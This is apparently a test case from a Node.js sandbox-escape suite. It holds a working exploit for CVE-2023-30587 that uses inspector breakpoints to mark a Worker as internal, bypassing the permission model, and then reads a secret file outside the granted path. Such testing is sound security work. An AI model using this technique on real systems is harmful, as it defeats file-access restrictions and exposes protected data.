// id: A05
// title: a debugger makes the Worker constructor take a worker for internal
// label: CVE-2023-30587 fixed in 20.3.1
// reference: https://nodejs.org/en/blog/vulnerability/june-2023-security-releases
// versions: >=20.0.0 <20.3.1
// measured: escapes: 20.3.0; denied: 20.5.0 to 26.10.0
// grants: --allow-fs-read={grant} --allow-fs-write={grant}
// prove: content
// stops: landlock
'use strict';
const [grant, secret] = process.argv.slice(2);
const finish = (text) => { process.stdout.write(text.split('\n', 1)[0] + '\n'); process.exit(); };
const escaped = (evidence) => finish(`ESCAPED ${evidence}`);
const DENIAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ERR_DLOPEN_FAILED|EACCES|EPERM|ENOSYS|EXDEV|EROFS)$/;
const failed = (error) => finish(`${DENIAL.test(error.code) ? 'DENIED' : 'BROKEN'} ${error.code || error.name} ${error.message}`);
process.on('uncaughtException', failed);

const inspector = require('inspector');
const { Worker } = require('worker_threads');
const session = new inspector.Session();
session.connect();
let script, source;
session.on('Debugger.scriptParsed', ({ params }) => { if (params.url === 'node:internal/worker') script = params.scriptId; });
session.post('Debugger.enable');
session.post('Debugger.getScriptSource', { scriptId: script }, (error, answer) => { source = answer.scriptSource; });
// Breakpoints whose conditions do the work: the worker is internal for the check and an ordinary one for its code.
const stop = (text, condition) => {
  const line = source.slice(0, source.indexOf(text)).split('\n').length - 1;
  session.post('Debugger.setBreakpoint', { location: { scriptId: script, lineNumber: line }, condition }, (error) => { if (error) failed(error); });
};
stop('const isInternal = arguments[2] === kIsInternal', '(arguments[2] = kIsInternal, false)');
stop('let env;', '(doEval = "classic", url = null, false)');
const code = `require('worker_threads').parentPort.postMessage(require('fs').readFileSync(${JSON.stringify(`${secret}/secret.txt`)}, 'utf8'))`;
const worker = new Worker(code, { eval: true, execArgv: [] });
worker.on('message', escaped);
worker.on('error', failed);
